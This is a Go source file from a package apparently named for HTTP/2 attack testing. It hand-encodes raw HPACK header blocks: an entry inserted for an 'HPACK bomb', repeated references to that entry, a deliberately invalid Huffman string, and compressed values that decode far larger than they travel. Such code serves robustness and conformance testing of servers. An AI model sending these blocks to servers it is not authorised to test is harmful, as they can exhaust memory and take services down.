package h2attack

// Raw HPACK (RFC 7541) for the blocks h2.Encoder will not write: an
// entry inserted behind its back, a thousand references to it, a Huffman
// string that does not decode. These fields leave the dynamic table alone
// (literal without indexing, §6.2.2), except appendInsert, which only the
// HPACK bomb uses, on a connection whose h2.Encoder it never uses again.

// appendInt appends v as an HPACK integer with an n-bit prefix (§5.1);
// first holds the bits above the prefix.
func appendInt(dst []byte, first byte, n uint, v uint64) []byte {
	limit := uint64(1)<<n - 1
	if v < limit {
		return append(dst, first|byte(v))
	}
	dst = append(dst, first|byte(limit))
	v -= limit
	for v >= 128 {
		dst = append(dst, byte(v%128)|0x80)
		v /= 128
	}
	return append(dst, byte(v))
}

// appendString appends a string literal sent as it is (§5.2, H = 0).
func appendString(dst []byte, s string) []byte {
	dst = appendInt(dst, 0, 7, uint64(len(s)))
	return append(dst, s...)
}

// appendLiteral appends a literal field without indexing with a new name
// (§6.2.2): it leaves both ends' tables as they were.
func appendLiteral(dst []byte, name, value string) []byte {
	dst = append(dst, 0x00)
	dst = appendString(dst, name)
	return appendString(dst, value)
}

// appendIndexed appends an indexed field (§6.1).
func appendIndexed(dst []byte, index uint64) []byte {
	return appendInt(dst, 0x80, 7, index)
}

// appendInsert appends a literal field with incremental indexing and a
// new name (§6.2.1): the decoder adds it to its dynamic table, at index
// 62, the first after the static table's 61.
func appendInsert(dst []byte, name, value string) []byte {
	dst = append(dst, 0x40)
	dst = appendString(dst, name)
	return appendString(dst, value)
}

// firstDynamicIndex is the index of the newest dynamic table entry.
const firstDynamicIndex = 62

// appendRawRequest appends a GET request's pseudo-header fields without
// touching the dynamic table: static table entries (§Appendix A) where
// they match whole, literals without indexing otherwise.
func appendRawRequest(dst []byte, scheme, authority, path string) []byte {
	dst = appendIndexed(dst, 2) // :method GET
	if scheme == "https" {
		dst = appendIndexed(dst, 7)
	} else {
		dst = appendIndexed(dst, 6)
	}
	dst = appendInt(dst, 0x00, 4, 1) // :authority, name from the static table
	dst = appendString(dst, authority)
	if path == "/" {
		return appendIndexed(dst, 4)
	}
	dst = appendInt(dst, 0x00, 4, 4) // :path
	return appendString(dst, path)
}

// appendBadHuffman appends a literal field without indexing whose value
// is Huffman-coded (§5.2, H = 1) as 32 one bits: the 30-bit EOS symbol,
// which a decoder must treat as an error (§5.2), then padding.
func appendBadHuffman(dst []byte, name string) []byte {
	dst = append(dst, 0x00)
	dst = appendString(dst, name)
	dst = appendInt(dst, 0x80, 7, 4)
	return append(dst, 0xff, 0xff, 0xff, 0xff)
}

// huffmanA8 is eight 'a's Huffman-coded: 'a' is 00011, five bits (RFC
// 7541 Appendix B), so eight of them fill five bytes exactly.
var huffmanA8 = [5]byte{0x18, 0xc6, 0x31, 0x8c, 0x63}

// appendHuffmanAs appends a literal field without indexing whose value,
// n 'a's (n a multiple of 8), is Huffman-coded in 5n/8 bytes: a field
// that counts for more in a header list (§6.5.2 counts decoded bytes)
// than it takes in the block.
func appendHuffmanAs(dst []byte, name string, n int) []byte {
	dst = append(dst, 0x00)
	dst = appendString(dst, name)
	dst = appendInt(dst, 0x80, 7, uint64(n/8*5))
	for range n / 8 {
		dst = append(dst, huffmanA8[:]...)
	}
	return dst
}
